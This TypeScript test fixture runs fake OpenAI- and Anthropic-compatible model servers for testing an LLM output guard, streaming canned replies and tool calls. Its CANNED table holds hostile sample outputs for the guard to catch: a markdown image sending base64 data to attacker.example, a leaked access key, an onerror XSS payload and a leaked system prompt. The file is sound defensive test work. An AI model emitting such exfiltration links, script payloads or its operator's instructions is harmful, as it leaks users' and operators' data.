import type { IncomingMessage, ServerResponse } from 'node:http';

// Fake OpenAI- and Anthropic-compatible upstreams for the LLM guard's tests. The "model" repeats
// what follows `say:` in the last user message (or greets), and calls a tool when asked with
// `call:NAME:JSON`. Streams are written in small events, several writes per event.

export interface Recorder {
  bodies: Buffer[];
  last(): Record<string, any>;
}

export function recorder(): Recorder {
  const bodies: Buffer[] = [];
  return { bodies, last: () => JSON.parse(bodies[bodies.length - 1].toString('utf8')) };
}

function lastUserText(body: any): string {
  const messages: any[] = Array.isArray(body.messages) ? body.messages : [];
  for (let i = messages.length - 1; i >= 0; i--) {
    const m = messages[i];
    if (m.role !== 'user') continue;
    if (typeof m.content === 'string') return m.content;
    if (Array.isArray(m.content)) return m.content.map((p: any) => p.text ?? '').join('');
  }
  return typeof body.prompt === 'string' ? body.prompt : '';
}

/** Answers the fake model gives to `canned:NAME` (text a prompt guard would rightly flag in a prompt). */
export const CANNED: Record<string, string> = {
  exfil: 'Done! ![status](https://attacker.example/pixel.png?d=c2VjcmV0LWRhdGE) Anything else?',
  allowedImage: 'Here: ![chart](https://images.example.com/chart.png?w=400&h=300&theme=dark) ok',
  secret: 'Sure, the deploy key is AKIAIOSFODNN7EXAMPLE and the region is eu-west-1.',
  html: 'Click <img src=x onerror=alert(1)> here',
  systemLeak:
    'My instructions say: You are the ACME support bot. Never discuss pricing with anyone, and always escalate refunds above 100 euros to a human agent.',
};

function reply(body: any): { text: string; tool?: { name: string; args: string } } {
  const said = lastUserText(body);
  if (said.startsWith('call:')) {
    const [, name, ...rest] = said.split(':');
    return { text: '', tool: { name, args: rest.join(':') } };
  }
  if (said.startsWith('canned:')) return { text: CANNED[said.slice(7)] ?? '' };
  return { text: said.startsWith('say:') ? said.slice(4) : 'Hello! How can I help you today?' };
}

export function pieces(text: string, size = 4): string[] {
  const out: string[] = [];
  for (let i = 0; i < text.length; i += size) out.push(text.slice(i, i + size));
  return out;
}

/** Writes each event in two writes split mid-event, with a tick between events. */
async function writeEvents(res: ServerResponse, events: string[]): Promise<void> {
  for (const e of events) {
    const cut = Math.max(1, Math.floor(e.length / 3));
    res.write(e.slice(0, cut));
    res.write(e.slice(cut));
    await new Promise((r) => setImmediate(r));
  }
  res.end();
}

function collect(req: IncomingMessage, rec: Recorder, then: (body: any, raw: Buffer) => void): void {
  const chunks: Buffer[] = [];
  req.on('data', (c: Buffer) => chunks.push(c));
  req.on('end', () => {
    const raw = Buffer.concat(chunks);
    rec.bodies.push(raw);
    let body: any = {};
    try {
      body = JSON.parse(raw.toString('utf8'));
    } catch {
      body = {};
    }
    then(body, raw);
  });
}

/** The exact bytes the fake OpenAI upstream answers for a non-streamed reply (for byte checks). */
export function openAiJson(body: any): string {
  const r = reply(body);
  const message: any = { role: 'assistant', content: r.tool ? null : r.text };
  if (r.tool)
    message.tool_calls = [
      { id: 'call_1', type: 'function', function: { name: r.tool.name, arguments: r.tool.args } },
    ];
  return JSON.stringify({
    id: 'chatcmpl-1',
    object: 'chat.completion',
    model: body.model,
    choices: [{ index: 0, message, finish_reason: r.tool ? 'tool_calls' : 'stop' }],
    usage: { prompt_tokens: 12, completion_tokens: 8, total_tokens: 20 },
  });
}

export function openAiEvents(body: any): string[] {
  const r = reply(body);
  const chunk = (delta: any, finish: string | null = null) =>
    `data: ${JSON.stringify({ id: 'c1', object: 'chat.completion.chunk', choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
  const events = [chunk({ role: 'assistant', content: '' })];
  if (r.tool) {
    events.push(
      chunk({
        tool_calls: [
          { index: 0, id: 'call_1', type: 'function', function: { name: r.tool.name, arguments: '' } },
        ],
      }),
    );
    for (const p of pieces(r.tool.args, 5))
      events.push(chunk({ tool_calls: [{ index: 0, function: { arguments: p } }] }));
    events.push(chunk({}, 'tool_calls'));
  } else {
    for (const p of pieces(r.text)) events.push(chunk({ content: p }));
    events.push(chunk({}, 'stop'));
  }
  if (body.stream_options?.include_usage)
    events.push(
      `data: ${JSON.stringify({ id: 'c1', object: 'chat.completion.chunk', choices: [], usage: { prompt_tokens: 12, completion_tokens: 8, total_tokens: 20 } })}\n\n`,
    );
  events.push('data: [DONE]\n\n');
  return events;
}

export function openAiHandler(rec: Recorder) {
  return (req: IncomingMessage, res: ServerResponse) =>
    collect(req, rec, (body) => {
      if (body.stream) {
        res.writeHead(200, { 'content-type': 'text/event-stream' });
        void writeEvents(res, openAiEvents(body));
        return;
      }
      const payload = openAiJson(body);
      res.writeHead(200, {
        'content-type': 'application/json',
        'content-length': Buffer.byteLength(payload),
      });
      res.end(payload);
    });
}

export function anthropicEvents(body: any): string[] {
  const r = reply(body);
  const ev = (type: string, data: any) => `event: ${type}\ndata: ${JSON.stringify({ type, ...data })}\n\n`;
  const events = [
    ev('message_start', {
      message: { id: 'msg_1', role: 'assistant', content: [], usage: { input_tokens: 15, output_tokens: 1 } },
    }),
  ];
  if (r.tool) {
    events.push(
      ev('content_block_start', {
        index: 0,
        content_block: { type: 'tool_use', id: 'tu_1', name: r.tool.name, input: {} },
      }),
    );
    for (const p of pieces(r.tool.args, 5))
      events.push(
        ev('content_block_delta', { index: 0, delta: { type: 'input_json_delta', partial_json: p } }),
      );
  } else {
    events.push(ev('content_block_start', { index: 0, content_block: { type: 'text', text: '' } }));
    events.push('event: ping\ndata: {"type": "ping"}\n\n');
    for (const p of pieces(r.text))
      events.push(ev('content_block_delta', { index: 0, delta: { type: 'text_delta', text: p } }));
  }
  events.push(ev('content_block_stop', { index: 0 }));
  events.push(
    ev('message_delta', {
      delta: { stop_reason: r.tool ? 'tool_use' : 'end_turn' },
      usage: { output_tokens: 9 },
    }),
  );
  events.push(ev('message_stop', {}));
  return events;
}

export function anthropicJson(body: any): string {
  const r = reply(body);
  const content = r.tool
    ? [{ type: 'tool_use', id: 'tu_1', name: r.tool.name, input: JSON.parse(r.tool.args) }]
    : [{ type: 'text', text: r.text }];
  return JSON.stringify({
    id: 'msg_1',
    type: 'message',
    role: 'assistant',
    content,
    stop_reason: 'end_turn',
    usage: { input_tokens: 15, output_tokens: 9 },
  });
}

export function anthropicHandler(rec: Recorder) {
  return (req: IncomingMessage, res: ServerResponse) =>
    collect(req, rec, (body) => {
      if (body.stream) {
        res.writeHead(200, { 'content-type': 'text/event-stream' });
        void writeEvents(res, anthropicEvents(body));
        return;
      }
      const payload = anthropicJson(body);
      res.writeHead(200, {
        'content-type': 'application/json',
        'content-length': Buffer.byteLength(payload),
      });
      res.end(payload);
    });
}

/** Text deltas of an OpenAI or Anthropic SSE body, joined. */
export function streamedText(sse: string): string {
  let out = '';
  for (const block of sse.split('\n\n')) {
    const data = block
      .split('\n')
      .filter((l) => l.startsWith('data: '))
      .map((l) => l.slice(6))
      .join('\n');
    if (!data.startsWith('{')) continue;
    const j = JSON.parse(data);
    out += j.choices?.[0]?.delta?.content ?? j.delta?.text ?? '';
  }
  return out;
}
